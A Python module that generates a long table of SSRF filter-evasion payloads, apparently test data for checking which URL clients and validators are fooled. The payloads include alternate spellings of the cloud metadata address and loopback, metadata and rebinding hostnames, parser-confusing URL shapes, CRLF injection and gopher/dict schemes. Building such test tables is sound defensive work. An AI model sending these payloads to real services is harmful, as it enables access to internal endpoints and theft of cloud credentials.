"""The evasions, as data: spellings of a host and shapes of a URL. A table: it runs long on purpose.

A spelling turns an IPv4 address into hosts that may mean it. A shape puts a host that leads inside, and one that does
not, into a URL. Each has the title of its row on the page. Fails on nothing; whether any client is taken in by one is
what the oracle finds out.
"""

import ipaddress
from dataclasses import dataclass
from typing import Callable

METADATA, LOOPBACK = "169.254.169.254", "127.0.0.1"
HARMLESS = "www.example.com"
PATH = "/latest/meta-data/"


@dataclass(frozen=True)
class Row:
    group: str
    title: str
    #: URLs of the row, from its target; for a spelling, hosts.
    build: Callable


def _octets(address):
    return [int(part) for part in address.split(".")]


def _number(address):
    return int(ipaddress.IPv4Address(address))


def _each(address, form):
    return ".".join(form.format(octet) for octet in _octets(address))


def _two(address):
    number = _number(address)
    return [f"{number >> 24}.{number & 0xFFFFFF}", f"0x{number >> 24:x}.0x{number & 0xFFFFFF:x}"]


def _three(address):
    number = _number(address)
    return [f"{number >> 24}.{number >> 16 & 0xFF}.{number & 0xFFFF}"]


def _mixed(address):
    a, b, c, d = _octets(address)
    return [f"0x{a:x}.{b}.0{c:o}.{d}", f"0{a:o}.0x{b:x}.{c}.{d}", f"{a}.{b}.0x{c << 8 | d:x}", f"0x{a:x}.{b}.{c}.0{d:o}"]


def _digits(address, zero, dot="."):
    return "".join(dot if c == "." else chr(zero + int(c)) for c in address)


def _circled(address):
    return "".join("." if c == "." else "⓪" if c == "0" else chr(0x245F + int(c)) for c in address)


def _superscript(address):
    return address.translate(str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹"))


def _percent(text, every=True):
    return "".join(f"%{ord(c):02x}" if every or not c.isalnum() else c for c in text)


def _hex_pair(address):
    number = _number(address)
    return f"{number >> 16:x}:{number & 0xFFFF:x}"


def _teredo(address):
    number = _number(address) ^ 0xFFFFFFFF
    return f"[2001:0:c633:6407:0:ffff:{number >> 16:x}:{number & 0xFFFF:x}]"


def _nat64_48(address):
    a, b, c, d = _octets(address)
    return f"[64:ff9b:1:{a:02x}{b:02x}:{c:04x}:{d:02x}00::]"


_V4 = {
    "dotted": lambda a: [a],
    "one decimal number": lambda a: [str(_number(a)), f"0{''}{_number(a)}"[1:]],
    "one hexadecimal number": lambda a: [f"0x{_number(a):x}", f"0X{_number(a):X}", f"0x0000{_number(a):x}"],
    "hexadecimal, dotted": lambda a: [_each(a, "0x{:x}"), _each(a, "0X{:02X}"), _each(a, "0x{:08x}")],
    "octal, dotted": lambda a: [_each(a, "0{:o}")],
    "octal, padded": lambda a: [_each(a, "{:07o}"), _each(a, "0{:03o}")],
    "one octal number": lambda a: [f"0{_number(a):o}", f"000{_number(a):o}"],
    "decimal with leading zeros": lambda a: [_each(a, "{:03}"), _each(a, "{:04}")],
    "mixed bases": _mixed,
    "two parts": _two,
    "three parts": _three,
    "trailing dot": lambda a: [f"{a}."],
    "number with a trailing dot": lambda a: [f"{_number(a)}.", f"0x{_number(a):x}."],
    "two trailing dots": lambda a: [f"{a}.."],
    "leading dot, double dot": lambda a: [f".{a}", a.replace(".", "..", 1)],
    "octets beyond 255": lambda a: [_each(a, "{}").replace(a, ".".join(str(o + 256) for o in _octets(a)))],
    "number beyond 32 bits": lambda a: [str(_number(a) + (1 << 32)), f"0x1{_number(a):08x}", str(_number(a) + (1 << 64))],
    "negative number": lambda a: [str(_number(a) - (1 << 32))],
    "sign or exponent": lambda a: [f"+{_number(a)}", f"{_number(a)}e0"],
    "invalid octal digit": lambda a: [f"{a.rpartition('.')[0]}.0{_octets(a)[3]:03}", f"{a.rpartition('.')[0]}.08"],
    "five parts": lambda a: [f"{a}.0", f"0.{a}"],
    "bare hexadecimal": lambda a: [f"{_number(a):08x}", f"0{_number(a):x}h"],
    "in brackets": lambda a: [f"[{a}]", f"[{_number(a)}]"],
    "binary": lambda a: [f"0b{_number(a):b}"],
}
_V6 = {
    "mapped, dotted": lambda a: [f"[::ffff:{a}]", f"[::FFFF:{a}]"],
    "mapped, hexadecimal": lambda a: [f"[::ffff:{_hex_pair(a)}]"],
    "mapped, written out": lambda a: [f"[0:0:0:0:0:ffff:{a}]", f"[0000:0000:0000:0000:0000:ffff:{_hex_pair(a)}]"],
    "compatible": lambda a: [f"[::{a}]", f"[::{_hex_pair(a)}]"],
    "translated (SIIT)": lambda a: [f"[::ffff:0:{a}]", f"[::ffff:0:{_hex_pair(a)}]"],
    "NAT64, well-known prefix": lambda a: [f"[64:ff9b::{a}]", f"[64:ff9b::{_hex_pair(a)}]"],
    "NAT64, local prefix": lambda a: [f"[64:ff9b:1::{_hex_pair(a)}]", _nat64_48(a)],
    "6to4": lambda a: [f"[2002:{_hex_pair(a)}::]", f"[2002:{_hex_pair(a)}::1]"],
    "Teredo": lambda a: [_teredo(a), f"[2001:0:{_hex_pair(a)}::1]"],
    "ISATAP": lambda a: [f"[2001:db8::5efe:{_hex_pair(a)}]", f"[2001:db8::200:5efe:{_hex_pair(a)}]"],
    "mapped, zone": lambda a: [f"[::ffff:{a}%lo]", f"[::ffff:{a}%25lo]"],
    "mapped, no brackets": lambda a: [f"::ffff:{a}"],
    "mapped, ligature or fullwidth": lambda a: [f"[::ﬀﬀ:{_hex_pair(a)}]", f"[::ｆｆｆｆ:{a}]"],
    "IPvFuture": lambda a: [f"[v1.{a}]", f"[v6.::ffff:{a}]"],
    "mapped, percent-encoded": lambda a: [f"[%3a%3affff%3a{a}]", f"%5b::ffff:{a}%5d"],
    "mapped, text after the bracket": lambda a: [f"[::ffff:{a}].", f"[::ffff:{a}]x", f"[::ffff:{a}].{HARMLESS}"],
}
_UNICODE = {
    "circled digits": lambda a: [_circled(a)],
    "fullwidth digits": lambda a: [_digits(a, 0xFF10)],
    "mathematical digits": lambda a: [_digits(a, 0x1D7CE), _digits(a, 0x1D7F6)],
    "superscript digits": lambda a: [_superscript(a)],
    "Arabic or Devanagari digits": lambda a: [_digits(a, 0x0660), _digits(a, 0x0966)],
    "ideographic full stop": lambda a: [a.replace(".", "。")],
    "halfwidth or fullwidth full stop": lambda a: [a.replace(".", "｡"), a.replace(".", "．")],
    "one dot leader, middle dot": lambda a: [a.replace(".", "․"), a.replace(".", "·")],
    "soft hyphen in an address": lambda a: [a.replace(".", ".\u00ad", 1), "\u00ad" + a],
    "zero width in an address": lambda a: [a.replace(".", ".\u200b", 1), a + "\u200d", "\ufeff" + a, a.replace(".", "\u2060.", 1)],
    "percent-encoded dot": lambda a: [a.replace(".", "%2e"), a.replace(".", "%2E", 1)],
    "percent-encoded whole": lambda a: [_percent(a)],
    "percent-encoded number": lambda a: [_percent(str(_number(a)))],
    "percent-encoded twice": lambda a: [a.replace(".", "%252e"), _percent(_percent(a, False), False)],
    "percent-encoded Unicode": lambda a: [a.replace(".", "%E3%80%82"), a.replace(".", "%ef%bc%8e")],
    "overlong UTF-8 for the dot": lambda a: [a.replace(".", "%c0%ae")],
    "percent without digits": lambda a: [a + "%", a.replace(".", "%u002e"), a + "%2"],
}
SPELLINGS = (
    [Row("IPv4", title, build) for title, build in _V4.items()]
    + [Row("IPv6", title, build) for title, build in _V6.items()]
    + [Row("Unicode and percent", title, build) for title, build in _UNICODE.items()]
)

#: Hosts that have no IPv4 address to vary.
HOSTS = {
    "IPv4": {
        "zero, any address": ["0", "0.0.0.0", "0x0", "00000", "0."],
        "other loopback addresses": ["127.0.0.2", "127.127.127.127", "127.255.255.254"],
        "neighbours of the metadata service": ["169.254.169.253", "169.254.170.2", "169.254.170.23"],
        "metadata services of other clouds": ["168.63.129.16", "100.100.100.200", "192.0.0.192", "169.254.42.42"],
    },
    "IPv6": {
        "loopback": ["[::1]", "[0:0:0:0:0:0:0:1]", "[0000::0001]"],
        "any address": ["[::]", "[0::0]"],
        "EC2 and other clouds": ["[fd00:ec2::254]", "[FD00:0EC2:0:0::254]", "[fd20:ce::254]", "[fd00:42::42]"],
        "zone": ["[::1%lo]", "[::1%25lo]", "[::1%1]", "[fe80::a9fe:a9fe%25lo]", "[fe80::a9fe:a9fe%lo]"],
        "no brackets": ["::1", "::1:80"],
    },
    "Names": {
        "localhost": ["localhost", "LocalHost"],
        "localhost with a dot": ["localhost.", "localhost.."],
        "below localhost": ["a.localhost", "localhost.localdomain"],
        "other names of the machine": ["ip6-localhost", "ip6-loopback"],
        "wildcard service, dotted": ["127.0.0.1.nip.io", "169.254.169.254.sslip.io", "a.127.0.0.1.nip.io"],
        "wildcard service, dashed": ["127-0-0-1.nip.io", "www-169-254-169-254.sslip.io", "--1.sslip.io"],
        "wildcard service, hexadecimal": ["7f000001.nip.io", "a9fea9fe.nip.io"],
        "always loopback": ["localtest.me", "a.lvh.me", "vcap.me", "lacolhost.com"],
        "rebinding service": ["7f000001.c6336407.rbndr.us", "make-127-0-0-1-rebind-198-51-100-7-rr.1u.ms"],
        "metadata names": ["metadata.google.internal", "metadata.goog", "instance-data.ec2.internal"],
        "metadata names, case and dot": ["METADATA.google.INTERNAL", "metadata.google.internal."],
        "metadata by search domain": ["metadata", "instance-data", "metadata."],
        "metadata names of other clouds": ["metadata.tencentyun.com", "api.metadata.cloud.ibm.com", "metadata.packet.net"],
    },
    "Unicode and percent": {
        "circled letters": ["ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "ⓜetadata.google.internal"],
        "fullwidth letters": ["ｌｏｃａｌｈｏｓｔ", "ｍetadata.goog"],
        "soft hyphen in a name": ["local\u00adhost", "meta\u00addata.google.internal"],
        "zero width in a name": ["local\u200dhost", "local\u200bhost", "local\u2060host", "local\ufeffhost"],
        "invisible marks in a name": ["local\u034fhost", "local\ufe0fhost", "local\u180dhost"],
        "long s, ligatures": ["localhoſt", "localhoﬆ", "metadata.goog。"],
        "Punycode of plain letters": ["xn--localhost-", "xn--localhost-.", "xn--127-0-0-1-.nip.io"],
        "percent in a name": ["loc%61lhost", "%6c%6f%63%61%6c%68%6f%73%74", "metadata%2egoogle%2einternal"],
        "percent-encoded Unicode name": ["%E2%93%9B%E2%93%9E%E2%93%92%E2%93%90%E2%93%9B%E2%93%97%E2%93%9E%E2%93%A2%E2%93%A3"],
    },
}


def _shape(*patterns):
    """Builds URLs; `I` stands for the host inside, `H` for the harmless one, `P` for the path."""

    def build(inside, harmless=HARMLESS, path=PATH):
        words = {"I": inside, "H": harmless, "P": path}
        return ["".join(words.get(c, c) for c in pattern) for pattern in patterns]

    return build


_SHAPES = {
    "User info": {
        "name before @": _shape("http://H@IP", "http://a:b@IP"),
        "port before @": _shape("http://H:80@IP", "http://H:80:80@IP"),
        "inside before @": _shape("http://I@HP", "http://I:80@HP", "http://I:@HP"),
        "semicolon": _shape("http://H;@IP", "http://I;@HP"),
        "ampersand": _shape("http://H&@IP", "http://I&@HP", "http://H=@IP"),
        "bracket before @": _shape("http://H[@IP", "http://I[@HP", "http://H]@IP", "http://[H]@IP"),
        "two @": _shape("http://H@H@IP", "http://I@H@HP", "http://H@I@HP"),
        "backslash before @": _shape("http://I\\@HP", "http://I:80\\@HP", "http://I\\@@HP"),
        "backslash before @, other order": _shape("http://H\\@IP", "http://H:80\\@IP"),
        "slash before @": _shape("http://H/@IP", "http://I/@HP", "http://I/H@HP"),
        "hash before @": _shape("http://I#@HP", "http://I:80#@HP"),
        "hash before @, other order": _shape("http://H#@IP", "http://H:80#@IP"),
        "query before @": _shape("http://I?@HP", "http://I?H@HP"),
        "query before @, other order": _shape("http://H?@IP", "http://H?.I@IP"),
        "encoded delimiter before @": _shape("http://H%2f@IP", "http://I%2f@HP", "http://I%23@HP", "http://I%2523@HP", "http://H%40IP"),
        "fullwidth slash before @": _shape("http://H／@IP", "http://I／@HP"),
        "fullwidth hash or query before @": _shape("http://H＃@IP", "http://I＃@HP", "http://I？@HP"),
        "fullwidth @": _shape("http://H＠IP", "http://I＠HP"),
        "space and ampersand": _shape("http://H &@I# @HP", "http://I &@H# @HP", "http://H &@H# @IP"),
        "space before @": _shape("http://H @IP", "http://I @HP"),
        "tab or line feed before @": _shape("http://I\t@HP", "http://H\n@IP", "http://I\n@HP"),
        "double hash": _shape("http://H##@IP", "http://I##@HP"),
    },
    "Structure": {
        "no slash": _shape("http:IP"),
        "one slash": _shape("http:/IP"),
        "three slashes": _shape("http:///IP"),
        "many slashes": _shape("http:////IP", "http://///////IP"),
        "backslashes": _shape("http:\\\\IP", "http:\\\\I\\"),
        "slash and backslash": _shape("http:/\\IP", "http:\\/IP", "http:\\IP"),
        "no scheme": _shape("IP", "I:80P"),
        "no scheme, slashes": _shape("//IP", "///IP", "\\\\IP"),
        "no scheme, user info": _shape("H@IP", "a:b@IP"),
        "colon without scheme": _shape("://IP", ":IP"),
        "upper-case scheme": _shape("HTTP://IP", "hTtP://IP"),
        "two schemes": _shape("http://http://IP", "http:http://IP", "httphttp://IP"),
        "backslash after the host": _shape("http://I\\P", "http://I\\.HP", "http://H\\.IP"),
        "query or fragment after the host": _shape("http://I?H", "http://I#H", "http://I#.HP", "http://I?.HP"),
        "encoded delimiter after the host": _shape("http://I%2f.HP", "http://I%23.HP", "http://I%3f.HP", "http://I%5c.HP", "http://I%40HP"),
        "fullwidth delimiter after the host": _shape("http://I／.HP", "http://I＃.HP", "http://I？.HP", "http://I：80P"),
        "account-of signs": _shape("http://I℀.HP", "http://I℁.HP", "http://I℅.HP"),
        "semicolon or comma after the host": _shape("http://I;.HP", "http://I;HP", "http://I,HP", "http://H,IP", "http://I;P"),
        "bar, caret, back-tick, quote": _shape("http://I|.HP", "http://I^.HP", "http://I`.HP", 'http://I"P', "http://I'P"),
        "braces (globbing)": _shape("http://{I}P", "http://{I,H}P", "http://{H,I}P"),
        "angle brackets": _shape("<http://IP>", "http://<I>P", "<URL:http://IP>"),
        "host list": _shape("http://I+HP", "http://I!HP", "http://I*HP", "http://I~HP", "http://I$HP", "http://I(H)P"),
        "inside as first label": _shape("http://I.HP"),
        "path below another": _shape("http://I/../HP", "http://I/.//HP", "http://I/%2e%2e/"),
        "without a path": _shape("http://I", "http://I?", "http://I#", "http://I:80"),
        "quoted-printable, dashes": _shape("http-3A-2F-2FI-2F", "http=3A=2F=2FI", "http%3A%2F%2FIP", "http%3a//IP"),
    },
    "Ports": {
        "plain": _shape("http://I:80P", "http://I:8080P"),
        "empty": _shape("http://I:P"),
        "leading zeros": _shape("http://I:0080P", "http://I:00000000000000000080P"),
        "beyond 65535": _shape("http://I:65616P", "http://I:131152P", "http://I:4294967376P"),
        "sign": _shape("http://I:+80P", "http://I:-80P"),
        "spaces": _shape("http://I: 80P", "http://I:80 P", "http://I :80P", "http://I:\t80P"),
        "text after": _shape("http://I:80abcP", "http://I:80.0P", "http://I:80,P", "http://I:0x50P"),
        "other digits": _shape("http://I:８０P", "http://I:⑧⓪P", "http://I:٨٠P"),
        "two ports": _shape("http://I:80:80P", "http://I:80:8080P", "http://I::80P"),
        "another host as port": _shape("http://I:HP", "http://H:I/", "http://I:80;HP"),
        "encoded colon": _shape("http://I%3a80P", "http://I%3A80:80P"),
        "zero": _shape("http://I:0P"),
    },
    "Control characters": {
        "tab in the host": lambda i, *_: [f"http://{i[:2]}\t{i[2:]}{PATH}", f"http://\t{i}{PATH}", f"http://{i}\t{PATH}"],
        "line feed in the host": lambda i, *_: [f"http://{i[:2]}\n{i[2:]}{PATH}", f"http://{i}\n{PATH}", f"http://{i}\n.{HARMLESS}/"],
        "carriage return in the host": lambda i, *_: [f"http://{i[:2]}\r{i[2:]}{PATH}", f"http://{i}\r\n{PATH}"],
        "NUL after the host": _shape("http://I\0.HP", "http://I\0P", "http://I\0@HP"),
        "encoded NUL": _shape("http://I%00.HP", "http://I%00P", "http://I%00@HP"),
        "space after the host": _shape("http://I .HP", "http://I P", "http://I%20.HP", "http://I%20P", "http://I+P"),
        "space before the host": _shape("http:// IP", "http://%20IP"),
        "encoded control character": _shape("http://I%0aP", "http://I%0d%0aP", "http://I%09P", "http://%0aIP", "http://I%0a.HP"),
        "leading space": _shape(" http://IP", "\thttp://IP", "\u00a0http://IP", "\u3000http://IP"),
        "leading control character": _shape("\x01http://IP", "\x1fhttp://IP", "\x0bhttp://IP"),
        "leading invisible": _shape("\ufeffhttp://IP", "\u200bhttp://IP"),
        "tab in the scheme": _shape("ht\ttp://IP", "http\t://IP", "http:\t//IP", "http:/\t/IP"),
        "line feed in the scheme": _shape("ht\ntp://IP", "\nhttp://IP", "http:\n//IP"),
        "trailing space or line feed": _shape("http://I ", "http://IP\n", "http://I\x01"),
        "line separators": _shape("http://I\u2028P", "http://I\u0085P", "http://I\x0bP", "http://I\x0cP"),
        "delete, other controls": _shape("http://I\x7fP", "http://I\x08P", "http://\x1fIP"),
        "line feed in the path": _shape("http://IP\r\nX: y", "http://HP\r\nHost: I", "http://IP%0d%0aX: y"),
        "bidirectional marks": _shape("http://\u202eIP", "http://I\u200eP"),
    },
    "Schemes": {
        "https": _shape("https://IP", "https://I:80P", "https:IP"),
        "ftp": _shape("ftp://IP", "ftp://I:80P"),
        "gopher, dict, telnet": _shape("gopher://I:80/_a", "dict://I:80/a", "telnet://I:80"),
        "ldap, mqtt, rtsp": _shape("ldap://I:80/", "mqtt://I:80/a", "rtsp://I:80/a"),
        "mail": _shape("imap://I:80/", "pop3://I:80/", "smtp://I:80/"),
        "tftp, smb": _shape("tftp://I/a", "smb://I/a/b"),
        "ws": _shape("ws://IP", "wss://IP"),
        "jar": _shape("jar:http://IP!/", "jar:http://I!/a"),
        "url:": _shape("url:http://IP", "URL:http://IP"),
        "view-source, feed, blob": _shape("view-source:http://IP", "feed:http://IP", "blob:http://IP"),
        "file with a host": _shape("file://I/etc/hostname", "netdoc://I/a"),
        "unknown": _shape("foo://IP", "httpx://IP", "http+unix://IP", "0://H:80;http://I:80/"),
        "unquoted wrapper": _shape("url('http://IP')", "'http://IP'", '"http://IP"', "(http://IP)"),
    },
}
SHAPES = [Row(group, title, build) for group, rows in _SHAPES.items() for title, build in rows.items()]
PLAIN = _shape("http://IP")


def rows():
    """Every row of the page with its URLs as text: `(group, title, [URL, …])`."""
    found = []
    for row in SPELLINGS:
        hosts = [host for target in (METADATA, LOOPBACK) for host in row.build(target)]
        found.append((row.group, row.title, [url for host in dict.fromkeys(hosts) for url in PLAIN(host)]))
    for group, titles in HOSTS.items():
        for title, hosts in titles.items():
            found.append((group, title, [url for host in hosts for url in PLAIN(host)]))
    for row in SHAPES:
        urls = [url for target in (METADATA, LOOPBACK, "localhost") for url in row.build(target)]
        found.append((row.group, row.title, list(dict.fromkeys(urls))))
    return found
